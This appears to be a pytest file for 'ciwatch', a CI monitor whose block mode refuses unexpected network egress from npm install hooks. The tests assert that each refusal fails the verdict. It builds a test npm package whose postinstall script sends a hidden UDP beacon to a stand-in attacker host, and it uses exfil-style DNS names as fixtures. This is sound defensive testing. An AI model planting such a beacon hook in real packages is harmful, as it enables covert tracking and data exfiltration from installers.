"""Class 9 of the evasion issue: a refusal is a finding.

Whatever block mode refused (a request, a connection, a DNS lookup, a datagram, a syscall) is
a finding of the rule the refusal enforced, at least as severe as ``fail-on``: the verdict is
``fail`` and the exit code 3 even when the refusal stopped the attack and nothing else was
found. Findings are one per (rule, target, hook), with every refusal as evidence, joined to
the rule's own finding about the same host when there is one; pid-less refusals count too.

The records are built as in tests/test_rules.py; the end-to-end case is a real npm hook that
sends a UDP datagram (proxy-bypass, medium on its own: without this, only a warning).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ciwatch.policy.model import Severity
from ciwatch.record.events import DnsAnswer, Refusal
from ciwatch.record.vocabulary import RefusedWhat
from ciwatch.verdict import VerdictKind
from tests.support.attacks import assert_found, npm_project
from tests.support.hooks import HOOK, Hooks, assert_refused
from tests.support.internet import EVIL, TestInternet
from tests.support.internet.core import UDP_PORT
from tests.test_rules import Build, found

BLOCK = "version: 1\nmode: block\n"


def _refusal(pid: int | None, what: RefusedWhat, target: str, reason: str, rule: str | None = None) -> Refusal:
    return Refusal(pid=pid, what=what, target=target, reason=reason, rule=rule)


def test_a_refused_datagram_alone_fails_the_verdict(tmp_path: Path) -> None:
    build = Build(tmp_path)
    hook = build.hook()
    reason = "proxy-bypass: udp to 198.51.100.7:9999 would not pass the proxy"
    seqs = [build.add(_refusal(hook.pid, RefusedWhat.DATAGRAM, "198.51.100.7:9999", reason, "proxy-bypass"))]
    seqs.append(build.add(_refusal(hook.pid, RefusedWhat.DATAGRAM, "198.51.100.7:9999", reason, "proxy-bypass")))
    verdict = build.judge(BLOCK)
    assert verdict.verdict is VerdictKind.FAIL and verdict.refusals == 2
    [finding] = found(verdict, "proxy-bypass")
    assert (finding.package, finding.hook, finding.host) == ("evil@1.0.0", "postinstall", "198.51.100.7")
    assert finding.severity is Severity.HIGH and finding.evidence == tuple(seqs)
    assert "refused" in finding.message


def test_a_refusal_joins_the_rules_own_finding(tmp_path: Path) -> None:
    build = Build(tmp_path)
    hook = build.hook()
    connect = hook.connect("198.51.100.7", 443, via="refused")
    refusal = build.add(
        _refusal(hook.pid, RefusedWhat.CONNECT, "198.51.100.7:443", "unfamiliar-egress: not in the allowlist")
    )
    [finding] = found(build.judge(BLOCK), "unfamiliar-egress")
    assert finding.evidence == (connect, refusal) and finding.severity is Severity.HIGH
    assert finding.message.endswith("refused in block mode (1x)")


def test_refusals_outside_hooks_and_of_syscalls_still_fail(tmp_path: Path) -> None:
    """The build's own refused request (unfamiliar-egress is low outside hooks) and a refused
    syscall (a reason a newer ciwatch may word differently) are fail-on findings too."""
    build = Build(tmp_path)
    build.add(_refusal(build.root.pid, RefusedWhat.REQUEST, "elsewhere.example", "unfamiliar-egress: not allowed"))
    build.add(_refusal(build.root.pid, RefusedWhat.IO_URING, "io_uring_setup", "io_uring I/O is not traced"))
    verdict = build.judge(BLOCK)
    assert verdict.verdict is VerdictKind.FAIL
    assert {f.severity for f in found(verdict, "unfamiliar-egress")} == {Severity.HIGH}
    assert [f.host for f in found(verdict, "proxy-bypass")] == [None]


def test_a_pid_less_dns_refusal_counts_and_finds_who_asked(tmp_path: Path) -> None:
    build = Build(tmp_path, net_mode="sandbox")
    hook = build.hook()
    hook.dns("data.exfil.example")
    build.add(DnsAnswer(pid=None, name="data.exfil.example", qtype="A", rcode="REFUSED", answers=[], server="x"))
    build.add(_refusal(None, RefusedWhat.DNS, "data.exfil.example", "unfamiliar-egress: not in the allowlist"))
    verdict = build.judge(BLOCK)
    assert verdict.verdict is VerdictKind.FAIL
    [finding] = found(verdict, "unfamiliar-egress")
    assert (finding.package, finding.hook) == ("evil@1.0.0", "postinstall")
    (tmp_path / "orphan").mkdir()
    orphan = Build(tmp_path / "orphan")
    orphan.add(_refusal(None, RefusedWhat.DNS, "other.example", "unfamiliar-egress: not in the allowlist"))
    assert orphan.judge(BLOCK).verdict is VerdictKind.FAIL


def test_an_exception_still_covers_a_refusal(tmp_path: Path) -> None:
    build = Build(tmp_path)
    build.add(_refusal(build.hook().pid, RefusedWhat.REQUEST, "ntp.example", "unfamiliar-egress: not allowed"))
    policy = BLOCK + (
        "exceptions:\n  - rule: unfamiliar-egress\n    host: ntp.example\n    reason: known\n    expires: 2099-01-01\n"
    )
    assert build.judge(policy).verdict is VerdictKind.PASS


# -- end to end: a real hook's datagram, refused -------------------------------------------


def _publish(hooks: Hooks, evil_ip: str) -> str:
    # Swallows its errors, as malware does: the install succeeds whatever happens to the packet.
    beacon = (
        "const s = require('dgram').createSocket('udp4'); s.on('error', () => {});"
        f"s.send('beacon', {UDP_PORT}, {json.dumps(evil_ip)}, () => s.close());"
    )
    return hooks.publish("udp-beacon", "node beacon.js", files={"beacon.js": beacon + "\n"}, main=True)


@pytest.mark.npm
@pytest.mark.root
def test_a_hooks_refused_datagram_fails_block_mode(
    internet: TestInternet, hooks: Hooks, evil_ip: str, tmp_path: Path
) -> None:
    package = _publish(hooks, evil_ip)
    hooks.bare_install(package, npm_project(tmp_path / "bare"))
    assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"beacon"]  # it works bare
    internet.reset_logs()
    watched = hooks.install(package, mode="block")
    assert_refused(watched)
    assert internet.udp_datagrams(EVIL, timeout=1.0) == []
    assert watched.verdict["refusals"] >= 1
    [finding] = assert_found(watched, "proxy-bypass", package, HOOK)
    assert finding["severity"] == "high" and "refused" in finding["message"]
